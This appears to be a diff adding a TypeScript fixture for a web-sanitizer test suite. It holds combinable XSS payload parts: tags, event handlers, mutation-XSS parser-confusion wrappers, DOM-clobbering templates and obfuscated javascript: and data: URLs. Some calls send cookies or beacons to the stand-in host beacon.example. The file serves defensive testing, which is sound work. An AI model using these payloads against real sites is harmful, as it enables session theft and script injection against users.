@@ -1,0 +1,201 @@
+/**
+ * What attacks are made of. `xss()` is what the pages under test count; beacon.example is a host that no
+ * page of ours may speak to.
+ */
+
+export const TAGS = [
+  'img',
+  'svg',
+  'body',
+  'iframe',
+  'video',
+  'audio',
+  'details',
+  'input',
+  'select',
+  'textarea',
+  'button',
+  'form',
+  'marquee',
+  'object',
+  'embed',
+  'math',
+  'a',
+  'p',
+  'table',
+  'xss-custom',
+  'style',
+  'link',
+  'meta',
+  'isindex',
+  'keygen',
+  'dialog',
+  'template',
+] as const;
+
+export const EVENTS = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onfocus autofocus',
+  'onmouseover',
+  'ontoggle open',
+  'onbegin',
+  'onanimationstart',
+  'onpointerrawupdate',
+  'onbeforetoggle popover',
+  'onscrollend',
+  'oncontentvisibilityautostatechange',
+  'onpageshow',
+  'onstart',
+  'oncopy',
+  'onwheel',
+  'formaction=javascript:xss() onsubmit',
+] as const;
+
+export const CALLS = [
+  'xss()',
+  'xss(1)//',
+  'top.xss()',
+  "window['xss']()",
+  'setTimeout(xss)',
+  '(0,xss)()',
+  'alert`1`',
+  'import(/x.js/.source)',
+  "fetch('https://beacon.example/'+document.cookie)",
+  "new Image().src='https://beacon.example/i'",
+  "navigator.sendBeacon('https://beacon.example/b')",
+  '&#120;&#115;&#115;()',
+] as const;
+
+/** How an attribute may be spelled. */
+export const SPELLINGS: readonly ((tag: string, event: string, call: string) => string)[] = [
+  (tag, event, call) => `<${tag} src=x ${event}=${call}>`,
+  (tag, event, call) => `<${tag} src=x ${event}="${call}">x</${tag}>`,
+  (tag, event, call) => `<${tag}/src=x/${event}='${call}'>`,
+  (tag, event, call) => `"><${tag} src=x ${event}="${call}">`,
+  (tag, event, call) => `'><${tag} ${event}=${call} `,
+  (tag, event, call) => `</title></textarea><${tag}\n${event}\n=\n"${call}"\n>`,
+  (tag, event, call) => `<${tag} a=">" ${event}="${call}">`,
+  (tag, event, call) => `<${tag.toUpperCase()} ${event.toUpperCase()}="${call}">`,
+];
+
+/** Elements whose content a second parse reads otherwise than the first. */
+export const FOREIGN = [
+  '<math><mtext><table><mglyph><style>',
+  '<svg><style>',
+  '<svg></p><style>',
+  '<math><mi><style>',
+  '<noscript><p title="</noscript>',
+  '<svg><foreignObject><style>',
+  '<form><math><mtext></form><form><mglyph><style>',
+  '<svg><desc><noscript>',
+  '<math><annotation-xml encoding="text/html"><style>',
+  '<template><style>',
+  '<select><template><style>',
+  '<table><caption><svg><title>',
+  '<xmp>',
+  '<noembed>',
+  '<plaintext>',
+  '<!--',
+  '<![CDATA[',
+  '<svg><a><p><title>',
+] as const;
+
+/** What is to come alive when the second parse finds it. */
+export const CARRIERS = [
+  '<img src=x onerror=xss()>',
+  '<!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">',
+  '</style><img src=x onerror=xss()>',
+  '<a title="</style><img src=x onerror=xss()>">',
+  ']]><img src=x onerror=xss()>',
+  '--!><img src=x onerror=xss()>',
+  '<script>xss()</script>',
+  '</title><svg onload=xss()>',
+  '<p id="</noscript><img src=x onerror=xss()>">',
+  '<mglyph><svg><mtext><textarea><path id="</textarea><img onerror=xss() src=1>">',
+] as const;
+
+/** Names that a script may believe to be its own. */
+export const NAMES = [
+  'core',
+  'trustedTypes',
+  'location',
+  'document',
+  'body',
+  'attributes',
+  'parentNode',
+  'childNodes',
+  'firstChild',
+  'nodeName',
+  'getElementById',
+  'cookie',
+  'localStorage',
+  '__proto__',
+  'constructor',
+  'toString',
+  'portal',
+  'sso-outlet',
+] as const;
+
+export const CLOBBERS: readonly ((name: string) => string)[] = [
+  (name) => `<a id=${name}></a><a id=${name} name=x href="https://beacon.example/c">c</a>`,
+  (name) => `<form id=${name}><input name=${name}><input name=nodeName>`,
+  (name) => `<img name=${name}>`,
+  (name) => `<iframe name=${name} srcdoc="<a id=x>">`,
+  (name) => `<form name=${name}><output id=parentNode>y</output></form>`,
+  (name) => `<object id=${name} name=${name}><embed name=attributes></object>`,
+];
+
+/** What leads somewhere, or loads something, by an address. */
+export const LEADING: readonly ((address: string) => string)[] = [
+  (address) => `<a href="${address}">x</a>`,
+  (address) => `<img src="${address}">`,
+  (address) => `<img srcset="${address} 2x, ${address} 1x" sizes=100vw>`,
+  (address) => `<iframe src="${address}"></iframe>`,
+  (address) => `<object data="${address}"></object>`,
+  (address) => `<embed src="${address}">`,
+  (address) => `<form action="${address}"><button>x</button></form>`,
+  (address) => `<button formaction="${address}">x</button>`,
+  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
+  (address) => `<svg><use href="${address}#x"/></svg>`,
+  (address) => `<svg><image href="${address}"/></svg>`,
+  (address) => `<math href="${address}">x</math>`,
+  (address) => `<link rel=stylesheet href="${address}">`,
+  (address) => `<link rel=prefetch href="${address}">`,
+  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
+  (address) => `<base href="${address}">`,
+  (address) => `<video poster="${address}" src="${address}"></video>`,
+  (address) => `<audio src="${address}"></audio>`,
+  (address) => `<picture><source srcset="${address}"><img></picture>`,
+  (address) => `<table background="${address}"><td background="${address}">x</table>`,
+  (address) => `<p style="background:url(${address})">x</p>`,
+  (address) => `<style>@import '${address}';*{background:url(${address})}</style>`,
+  (address) => `<input type=image src="${address}">`,
+  (address) => `<area href="${address}" shape=default><map name=m></map>`,
+  (address) => `<track src="${address}">`,
+  (address) => `<script src="${address}"></script>`,
+  (address) => `<portal src="${address}"></portal>`,
+  (address) => address,
+];
+
+export const ADDRESSES = [
+  'javascript:xss()',
+  'JaVaScRiPt:xss()',
+  'java\tscript:xss()',
+  'java\nscript:xss()',
+  '\u0001javascript:xss()',
+  '&#106;avascript:xss()',
+  'javascript&colon;xss()',
+  'javascript://%0axss()',
+  'vbscript:xss()',
+  'data:text/html,<script>top.xss()</script>',
+  'data:text/html;base64,PHNjcmlwdD50b3AueHNzKCk8L3NjcmlwdD4=',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.xss()"/>',
+  'blob:https://beacon.example/1',
+  'https://beacon.example/p',
+  'http://beacon.example/p',
+  '//beacon.example/p',
+  '\\\\beacon.example\\p',
+  'https:beacon.example/p',
+] as const;
